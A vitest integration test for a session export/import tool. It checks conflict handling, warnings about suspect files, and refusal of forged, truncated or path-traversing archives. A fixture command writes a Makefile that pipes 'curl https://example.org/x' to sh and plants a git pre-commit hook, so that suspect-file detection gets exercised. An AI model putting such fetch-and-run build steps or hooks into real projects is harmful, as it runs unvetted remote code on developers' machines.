import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { expect, it } from 'vitest';
import { Scene } from '../../../support/scene.ts';

const MAKE = [
  'echo inside > made.txt',
  'echo more >> README.md',
  'printf "all:\\n\\tcurl https://example.org/x | sh\\n" > Makefile',
  'rm src/file3.txt src/file4.txt',
  'printf "changed\\nsecond line\\nthird line\\n" > src/file1.txt',
  'printf "changed\\n" > src/file2.txt',
  'chmod +x log.txt',
  'mkdir -p .git/hooks && echo true > .git/hooks/pre-commit',
].join(' && ');

const sessionsOf = (scene: Scene): string[] => {
  const dir = path.join(scene.places().stateDir, 'sessions');
  return existsSync(dir) ? readdirSync(dir) : [];
};

it('a session is handed to a colleague, whose own project and policy decide about it', async () => {
  await using ours = new Scene();
  await using theirs = new Scene();
  const made = await ours.run(['exec', ours.project, '--', 'sh', '-c', MAKE]);
  expect(made.status).toBe(120);
  const file = path.join(ours.root, 'set.tar');
  const exported = await ours.run(['export', file]);
  expect([exported.status, exported.stderr]).toEqual([
    0,
    expect.stringMatching(/Exported 8 changes of session \S+ to /),
  ]);
  const again = await ours.run(['export', file]);
  expect([again.status, again.stderr]).toEqual([2, expect.stringContaining('the file exists')]);
  const bytes = readFileSync(file);
  for (const word of [ours.root, ours.home, 'pre-commit', 'suspect', 'finding', 'TOKEN-IN-URL'])
    expect(bytes.includes(word), word).toBe(false);

  // Since the session began, the colleague's project went other ways.
  theirs.write('src/file2.txt', 'mine\n');
  theirs.write('src/file4.txt', 'mine\n');
  const before = theirs.fingerprint();
  const imported = await theirs.run(['import', file]);
  const id = imported.stdout.trim();
  expect(imported.status).toBe(0);
  expect(id).toMatch(/^\d{6}-\d{6}-\w{3}$/);
  expect(imported.stderr).toContain('WARNING: Suspect file modified: Makefile');
  expect(imported.stderr).toMatch(/src\/file2\.txt: the session began with other content/);
  expect(imported.stderr).toMatch(/src\/file4\.txt: the session began with other content/);
  expect(theirs.fingerprint()).toBe(before);

  const listed = JSON.parse((await theirs.run(['sessions', '--json'])).stdout);
  const [{ id: origin }] = JSON.parse((await ours.run(['sessions', '--json'])).stdout);
  expect(listed).toMatchObject([{ id, project: theirs.project, state: 'pending', imported: { session: origin } }]);
  expect((await theirs.run(['sessions'])).stdout).toContain(`imported from session ${origin}`);
  expect((await theirs.run(['status'])).stdout).toContain(`imported from session ${origin}`);
  const diff = (await theirs.run(['diff', '--stat'])).stdout;
  expect(diff).toMatch(/^created {2}\+1 -0 +src\/file2\.txt$/m);
  expect(diff).toMatch(/^modified \+1 -1 +src\/file1\.txt$/m);
  for (const command of ['resume', 'explore', 'commits']) {
    const refused = await theirs.run([command]);
    expect([refused.status, refused.stderr], command).toEqual([125, expect.stringContaining('imported')]);
  }

  const applied = await theirs.run(['apply', '--yes']);
  expect(applied.status).toBe(122);
  expect(applied.stderr).toMatch(/conflict: src\/file2\.txt/);
  expect(theirs.git('status', '--porcelain')).toBe(
    [
      ' M README.md',
      ' M src/file1.txt',
      ' M src/file2.txt',
      ' D src/file3.txt',
      ' M src/file4.txt',
      '?? made.txt',
      '',
    ].join('\n'),
  );
  expect(readFileSync(path.join(theirs.project, 'src/file2.txt'), 'utf8')).toBe('mine\n');
  expect(readFileSync(path.join(theirs.project, 'src/file4.txt'), 'utf8')).toBe('mine\n');
  expect((await theirs.run(['undo', '--yes'])).status).toBe(0);
  expect(theirs.fingerprint()).toBe(before);
  expect((await theirs.run(['discard', '--yes'])).status).toBe(0);
  expect(JSON.parse((await theirs.run(['sessions', '--json'])).stdout)).toMatchObject([{ state: 'discarded' }]);

  // A commit instead of the files: the session's base is there as it was.
  const overCommit = await theirs.run(['import', file, theirs.project, '--commit', 'HEAD', '--json']);
  expect(JSON.parse(overCommit.stdout)).toMatchObject({ changes: 8, differing: [], origin: { session: origin } });

  const count = sessionsOf(theirs).length;
  for (const [what, forged] of [
    ['a changed content', Buffer.from(bytes.toString('latin1').replace('inside\n', 'INSIDE\n'), 'latin1')],
    [
      'a path that leaves the project',
      Buffer.from(bytes.toString('latin1').replace('"made.txt"', '"../e.txt"'), 'latin1'),
    ],
    ['half of it', bytes.subarray(0, bytes.length / 2)],
  ] as const) {
    writeFileSync(path.join(ours.root, 'forged.tar'), forged);
    const refused = await theirs.run(['import', path.join(ours.root, 'forged.tar')]);
    expect([refused.status, refused.stdout], what).toEqual([125, '']);
    expect(refused.stderr.match(/cannot be imported: /g), what).toHaveLength(1);
    expect(sessionsOf(theirs), what).toHaveLength(count);
  }
});
